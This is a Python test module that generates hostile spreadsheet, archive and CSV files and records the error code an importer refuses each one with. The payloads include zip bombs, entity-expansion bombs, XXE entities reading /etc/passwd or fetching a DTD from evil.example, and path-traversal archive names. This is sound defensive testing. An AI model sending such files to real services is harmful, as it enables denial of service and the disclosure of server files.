"""Files that are made to exhaust a server or to be read as something else, and what each is refused with.

Run as a program, ``python -m tests.hostile_files FOLDER`` loads every file of a folder in a process of its own and
prints what that took.
"""

import io
import json
import os
import resource
import struct
import sys
import time
import zipfile
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path
from typing import Any

MEGABYTE = 1_000_000

_SHEET = (
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{}</sheetData></worksheet>'
)
_DOCTYPE = '<!DOCTYPE sst [<!ENTITY a "{}"><!ENTITY b "&a;&a;&a;&a;">]>'


def zipped(members: Mapping[str, bytes | Iterator[bytes]], level: int = 1) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, content in members.items():
            with archive.open(name, "w", force_zip64=True) as member:
                for piece in (content,) if isinstance(content, bytes) else content:
                    member.write(piece)
    return packed.getvalue()


def workbook(rows: str = "", **parts: bytes | Iterator[bytes]) -> bytes:
    """A workbook with some rows of XML in its only sheet, and other parts: ``sharedStrings`` and so on."""
    members: dict[str, bytes | Iterator[bytes]] = {
        "[Content_Types].xml": b"<Types/>",
        "xl/workbook.xml": b"<workbook/>",
    }
    members["xl/worksheets/sheet1.xml"] = _SHEET.format(rows).encode()
    return zipped(members | {f"xl/{name}.xml": content for name, content in parts.items()})


_NAMESPACE = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'


def whole_workbook(rows: str, sheets: int = 1, strings: bytes = b"<sst/>", encoding: str = "utf-8") -> bytes:
    """A workbook whose sheets all are the same part, as no program writes one."""
    listed = "".join(f'<sheet name="Blatt {n}" sheetId="{n}" r:id="rId1"/>' for n in range(1, sheets + 1))
    relations = "".join(
        f'<Relationship Id="rId{n}" Type="http://x/{kind}" Target="{target}.xml"/>'
        for n, (kind, target) in enumerate(
            {"worksheet": "worksheets/sheet1", "sharedStrings": "sharedStrings"}.items(), 1
        )
    )
    return zipped(
        {
            "xl/workbook.xml": f"<workbook {_NAMESPACE}><sheets>{listed}</sheets></workbook>".encode(),
            "xl/_rels/workbook.xml.rels": f"<Relationships>{relations}</Relationships>".encode(),
            "xl/sharedStrings.xml": strings,
            "xl/worksheets/sheet1.xml": _SHEET.format(rows).encode(encoding),
        }
    )


_OPEN = "urn:oasis:names:tc:opendocument:xmlns"
_OPEN_CONTENT = (
    f'<office:document-content xmlns:office="{_OPEN}:office:1.0" xmlns:table="{_OPEN}:table:1.0"'
    f' xmlns:text="{_OPEN}:text:1.0" xmlns:style="{_OPEN}:style:1.0" xmlns:number="{_OPEN}:datastyle:1.0"'
    ' xmlns:calcext="urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0">'
    "<office:automatic-styles>{styles}</office:automatic-styles>"
    "<office:body><office:spreadsheet>{tables}</office:spreadsheet></office:body></office:document-content>"
)


def open_sheets(sheets: Mapping[str, str], styles: str = "", parts: Mapping[str, bytes] | None = None) -> bytes:
    """An OpenDocument spreadsheet with the rows of XML of each sheet, and other parts by their names."""
    tables = "".join(f'<table:table table:name="{name}">{rows}</table:table>' for name, rows in sheets.items())
    members: dict[str, bytes | Iterator[bytes]] = {
        "mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
        "content.xml": _OPEN_CONTENT.format(styles=styles, tables=tables).encode(),
        "META-INF/manifest.xml": b"<manifest:manifest/>",
    }
    return zipped(members | (parts or {}))


def open_cell(text: str, repeated: str = "") -> str:
    times = f' table:number-columns-repeated="{repeated}"' if repeated else ""
    return f'<table:table-cell{times} office:value-type="string"><text:p>{text}</text:p></table:table-cell>'


def open_row(*cells: str, repeated: str = "") -> str:
    times = f' table:number-rows-repeated="{repeated}"' if repeated else ""
    return f"<table:table-row{times}>{''.join(cells)}</table:table-row>"


def in_encoding(name: str, codec: str) -> bytes:
    """A workbook whose sheet says it is in that encoding, and is in it."""
    head = f'<?xml version="1.0" encoding="{name}"?>'
    rows = '<row r="1"><c r="A1" t="str"><v>id</v></c></row>'
    return workbook(**{"worksheets/sheet2": (head + _SHEET.format(rows)).encode(codec)})


def repeated(piece: bytes, megabytes: int) -> Iterator[bytes]:
    block = piece * (MEGABYTE // len(piece))
    yield from (block for _ in range(megabytes))


def with_stated_size(archive: bytes, size: int) -> bytes:
    """The archive with another unpacked size in its directory than its only member has."""
    place = archive.index(b"PK\x01\x02") + 24
    return archive[:place] + struct.pack("<I", size) + archive[place + 4 :]


def encrypted(archive: bytes) -> bytes:
    place = archive.index(b"PK\x01\x02") + 8
    return archive[:place] + struct.pack("<H", 1) + archive[place + 2 :]


def numbered(piece: str) -> str:
    """The piece 200,000 times with different numbers, which do not pack well."""
    return "".join(piece.format(number * 7_919 % 1_000_003) for number in range(200_000))


def table(header: str, rows: str) -> bytes:
    return f"{header}\n{rows}".encode()


# name -> (content, code it is refused with); a name says how the file was called
FILES: Mapping[str, tuple[Callable[[], bytes], str]] = {
    # workbooks
    "cell-xfd1048576.xlsx": (lambda: workbook('<row r="1"><c r="XFD1048576"><v>1</v></c></row>'), "cell-out-of-range"),
    "row-1048576.xlsx": (lambda: workbook('<row r="1048576"><c r="A1048576"><v>1</v></c></row>'), "too-many-rows"),
    "one-string-of-400-mb.xlsx": (
        lambda: workbook(sharedStrings=iter((b"<sst><si><t>", *repeated(b"x", 400), b"</t></si></sst>"))),
        "archive-too-large",
    ),
    "one-string-of-45-mb.xlsx": (
        lambda: workbook(sharedStrings=iter((b"<sst><si><t>", *repeated(b"x", 45), b"</t></si></sst>"))),
        "archive-packed-too-densely",
    ),
    "200000-columns.xlsx": (lambda: workbook(f"<row>{numbered('<c><v>{}</v></c>')}</row>"), "cell-out-of-range"),
    "200000-rows.xlsx": (lambda: workbook(numbered("<row><c><v>{}</v></c></row>")), "too-many-rows"),
    "entities.xlsx": (
        lambda: workbook(sharedStrings=(_DOCTYPE.format("x" * 9_000) + "<sst><si><t>&b;</t></si></sst>").encode()),
        "workbook-document-type",
    ),
    "external-entity.xlsx": (
        lambda: workbook(
            sharedStrings=b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><sst><si><t>&x;</t></si></sst>'
        ),
        "workbook-document-type",
    ),
    "external-entity-in-utf-16.xlsx": (
        lambda: workbook(sharedStrings='<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><sst/>'.encode("utf-16")),
        "workbook-document-type",
    ),
    "deeply-nested.xlsx": (lambda: workbook("<a>" * 100_000 + "</a>" * 100_000), "workbook-too-large"),
    "100000-styles.xlsx": (lambda: workbook(styles=b"<s>" + b"<xf/>" * 100_000 + b"</s>"), "workbook-too-large"),
    "3-million-elements.xlsx": (
        lambda: workbook(sharedStrings=b"<sst>" + b"<si><t/></si>" * 1_500_000 + b"</sst>"),
        "archive-packed-too-densely",
    ),
    # a few kilobytes that ask for much to be done
    "2000-sheets-on-one-part.xlsx": (
        lambda: whole_workbook('<row r="1"><c r="A1" t="str"><v>id</v></c></row>' * 200, sheets=2_000),
        "workbook-unreadable",
    ),
    "shared-formula-of-80-kb.xlsx": (
        lambda: whole_workbook(
            f'<row r="1"><c r="A1"><f t="shared" si="0" ref="A1:A2000">{"A1+" * 27_000}1</f></c></row>'
            + "".join(f'<row r="{n}"><c r="A{n}"><f t="shared" si="0"/></c></row>' for n in range(2, 2_001))
        ),
        "formula-without-value",
    ),
    "shared-text-of-800-kb-in-50000-cells.xlsx": (
        lambda: whole_workbook(
            "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1, 50_001)),
            strings=b"<sst><si><t>" + b"x" * 800_000 + b"</t></si></sst>",
        ),
        "workbook-too-large",
    ),
    "part-in-utf-7.xlsx": (lambda: in_encoding("UTF-7", "utf-7"), "workbook-unreadable"),
    "part-in-utf-32.xlsx": (lambda: in_encoding("UTF-32", "utf-32-le"), "workbook-unreadable"),
    "part-in-utf-32-be.xlsx": (lambda: in_encoding("UTF-32BE", "utf-32-be"), "workbook-unreadable"),
    "part-in-big5.xlsx": (lambda: in_encoding("Big5", "big5"), "workbook-unreadable"),
    "part-in-no-encoding.xlsx": (lambda: in_encoding("X-AALEN", "utf-8"), "workbook-unreadable"),
    "part-in-rot13.xlsx": (lambda: in_encoding("rot13", "utf-8"), "workbook-unreadable"),
    "broken-xml.xlsx": (lambda: workbook("<row><c>"), "workbook-unreadable"),
    "no-workbook.xlsx": (lambda: zipped({"xl/workbook.bin": b"x"}), "old-workbook"),
    "old.xls": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4_000), "old-workbook"),
    # spreadsheets of LibreOffice, in which an element may stand for a million
    "row-1048576-times.ods": (
        lambda: open_sheets({"Akteure": open_row(open_cell("id")) + open_row(open_cell("a"), repeated="1048575")}),
        "too-many-rows",
    ),
    "cell-16384-times.ods": (
        lambda: open_sheets({"Akteure": open_row(open_cell("id", repeated="16384"))}),
        "cell-out-of-range",
    ),
    "100-cells-49000-times.ods": (
        lambda: open_sheets({"Akteure": open_row(open_cell("id", repeated="100"), repeated="49000")}),
        "too-many-rows",
    ),
    "a-number-of-4000-digits-of-times.ods": (
        lambda: open_sheets({"Akteure": open_row("<table:table-cell/>" * 9, open_cell("id", repeated="9" * 4_000))}),
        "cell-out-of-range",
    ),
    "no-number-of-times.ods": (
        lambda: open_sheets({"Akteure": open_row(open_cell("id", repeated="viele"))}),
        "workbook-unreadable",
    ),
    "text-of-9-kb-in-a-million-cells.ods": (
        lambda: open_sheets({"Akteure": open_row(open_cell("x" * 9_000, repeated="100"), repeated="10000")}),
        "workbook-too-large",
    ),
    "a-billion-blanks.ods": (
        lambda: open_sheets({"Akteure": open_row(open_cell('a<text:s text:c="1000000000"/>' * 1_000))}),
        "workbook-too-large",
    ),
    "100000-sheets.ods": (
        lambda: open_sheets({f"Blatt {n * 7_919 % 100_003}": "" for n in range(100_000)}),
        "workbook-too-large",
    ),
    "one-text-of-45-mb.ods": (
        lambda: open_sheets({"Akteure": open_row(open_cell("x" * 45_000_000))}),
        "archive-packed-too-densely",
    ),
    "200000-styles.ods": (lambda: open_sheets({}, numbered('<style:style style:name="x{}"/>')), "workbook-too-large"),
    "deeply-nested.ods": (
        lambda: open_sheets({"Akteure": "<table:table-row-group>" * 60 + "</table:table-row-group>" * 60}),
        "workbook-too-large",
    ),
    "external-entity.ods": (
        lambda: open_sheets(
            {}, "", {"content.xml": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'}
        ),
        "workbook-document-type",
    ),
    "entities-in-styles.ods": (
        lambda: open_sheets({}, "", {"styles.xml": (_DOCTYPE.format("x" * 9_000) + "<a>&b;</a>").encode()}),
        "workbook-document-type",
    ),
    "broken-xml.ods": (lambda: open_sheets({}, "", {"content.xml": b"<office:body><a>"}), "workbook-unreadable"),
    "cut-off.ods": (lambda: open_sheets({"Akteure": open_row(open_cell("id"))})[:-30], "archive-unreadable"),
    "password.ods": (
        lambda: open_sheets(
            {}, "", {"content.xml": bytes(range(256)), "META-INF/manifest.xml": b"<manifest:encryption-data/>"}
        ),
        "old-workbook",
    ),
    "a-text.ods": (lambda: open_sheets({}, "", {"content.xml": b"<a><office:text/></a>"}), "old-workbook"),
    # archives
    "bomb-of-4-gb.zip": (lambda: with_stated_size(zipped({"actors.csv": b"id"}), 4_000_000_000), "archive-too-large"),
    "bomb-of-ratio-1000.zip": (lambda: zipped({"actors.csv": repeated(b"a", 30)}, 9), "archive-packed-too-densely"),
    "size-that-lies.zip": (
        lambda: with_stated_size(zipped({"actors.csv": repeated(b"a", 30)}, 9), 99),
        "archive-unreadable",
    ),
    "archive-in-archive.zip": (
        lambda: zipped({"a.zip": zipped({"b.zip": zipped({"actors.csv": b"id"})})}),
        "nested-archive",
    ),
    "workbook-in-archive.zip": (lambda: zipped({"actors.xlsx": workbook()}), "nested-archive"),
    "5000-members.zip": (lambda: zipped({f"{number}.csv": b"" for number in range(5_000)}), "archive-too-many-files"),
    "password.zip": (lambda: encrypted(zipped({"actors.csv": b"id,name"})), "archive-encrypted"),
    "cut-off.zip": (lambda: zipped({"actors.csv": b"id,name\na,A\n" * 99})[:-30], "archive-unreadable"),
    "names-that-climb.zip": (lambda: zipped({"../../actors.csv": b"id,name\n", "/etc/passwd": b"x"}), "missing-file"),
    # text
    "200000-columns.csv": (lambda: table(",".join(f"c{n}" for n in range(200_000)), "a,b"), "too-many-columns"),
    "200000-cells-in-a-row.csv": (lambda: table("id,name,type", "a," * 200_000), "row-too-wide"),
    "60000-rows.csv": (lambda: table("id,name", "a,A\n" * 60_000), "too-many-rows"),
    "a-million-empty-lines.csv": (lambda: table("id,name", "\n" * 1_000_000), "too-many-rows"),
    "a-million-carriage-returns.csv": (lambda: table("id,name", "\r" * 1_000_000), "too-many-rows"),
    "one-cell-of-24-mb.csv": (lambda: table("id,name", "a," + "x" * 24_000_000), "row-too-long"),
    "26-mb.csv": (lambda: table("id,name", "a,A\n" * 6_500_000), "too-large"),
    "delimiters-of-20-mb.csv": (lambda: b";" * 20_000_000, "too-many-columns"),
    "quotation-mark-never-closed.csv": (lambda: table("id,name,type", 'a,"A\n' + "b,B\n" * 20_000), "unclosed-quote"),
    "quotation-marks-never-closed-of-20-mb.csv": (
        lambda: table("id,name", 'a,"A\nb\n' * 50_000 + "x" * 20_000_000),
        "row-too-long",
    ),
    "a-broken-row-in-every-line.csv": (lambda: table("id,name", '1,"a"b\n' * 3_000_000), "too-many-rows"),
    "accents-on-one-letter.csv": (
        lambda: table("id,name,type", "a,e" + "\u0301\u0316" * 60_000 + ",\n,B,"),
        "missing-id",
    ),
    "accents-in-the-header.csv": (lambda: table("id,name,type,e" + "\u0301\u0316" * 60_000, ",B,,"), "missing-id"),
    "faults-in-every-cell.csv": (
        lambda: table(
            "from_id,to_id,kind,amount_eur,start,status,reference",
            "".join(f"from {n},to {n},kind {n},much {n},when {n},what {n},where {n}\n" for n in range(20_000)),
        ),
        "more-findings",
    ),
    "noise.csv": (lambda: bytes(range(256)) * 40_000, "undecodable"),
    "nothing-but-zeros.csv": (lambda: bytes(5_000_000), "undecodable"),
    "utf-16-of-one-line.csv": (lambda: ("x" * 5_000_000).encode("utf-16"), "row-too-long"),
}


def write_files(folder: Path) -> None:
    """Write all files, and one of 400 MB that takes no room on the disk."""
    for name, (content, _) in FILES.items():
        (folder / name).write_bytes(content())
    with (folder / "sparse-400-mb.csv").open("wb") as file:
        file.truncate(400 * MEGABYTE)


def measure(folder: Path) -> Iterator[dict[str, object]]:
    """Load each file; yield codes of findings, seconds and additional megabytes."""
    import graph  # before forking, so that each process starts with what the app has in memory anyway

    graph.load({"actors.csv": b"id,name\n", "daten.xlsx": workbook()})
    return measured(folder, graph.load, lambda found: {"codes": sorted({issue.code for issue in found.issues})})


def measured(
    folder: Path, read: Callable[[Path], Any], told: Callable[[Any], dict[str, object]]
) -> Iterator[dict[str, object]]:
    """Read each file in a process forked for it; yield what is told of it, seconds and additional megabytes."""
    for path in sorted(folder.iterdir()):
        reading, writing = os.pipe()
        if os.fork() == 0:
            before, start = _peak(), time.process_time()
            found = read(path)
            taken = {"seconds": time.process_time() - start, "megabytes": _peak() - before}
            os.write(writing, json.dumps({"file": path.name, **told(found), **taken}).encode())
            os._exit(0)
        os.close(writing)
        with os.fdopen(reading, "rb") as answer:
            yield json.load(answer)
        os.wait()


def _peak() -> float:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


if __name__ == "__main__":
    print(json.dumps(list(measure(Path(sys.argv[1])))))
